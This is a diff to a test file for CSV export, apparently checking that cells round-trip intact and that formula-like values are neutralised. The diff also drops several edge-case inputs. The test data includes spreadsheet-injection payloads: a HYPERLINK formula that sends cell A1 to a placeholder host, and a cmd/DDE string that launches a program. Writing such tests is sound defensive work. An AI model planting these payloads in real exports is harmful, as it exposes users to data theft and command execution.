@@ -125,19 +125,14 @@ describe('an asset as a line of CSV', () => {
 
 describe('a cell', () => {
   it.each([
-    'a "quoted" word',
-    'a, b; c',
-    'two\nlines',
+    'a "quoted" word, and a comma; both',
     'two\r\nlines',
     'a return\ralone',
-    '"',
-    ',',
     "'apostrophe",
     ' spaces ',
     '🚀 Їжак\u2028\u0085\ufeff',
     '1e5',
     '-12.5',
-    '-0',
     'a=b',
   ])('comes back as it was: %j', async (title) => {
     expect(await titled(title)).toBe(title);
@@ -146,12 +141,9 @@ describe('a cell', () => {
   it.each([
     '=HYPERLINK("http://a.example/?"&A1)',
     '+380440000000',
-    '+3',
     "-2+3+cmd|' /C calc'!A0",
     '-',
-    '--1',
     '-01',
-    '-1.',
     '@SUM(A1)',
     '\t=1',
     '\r=1',
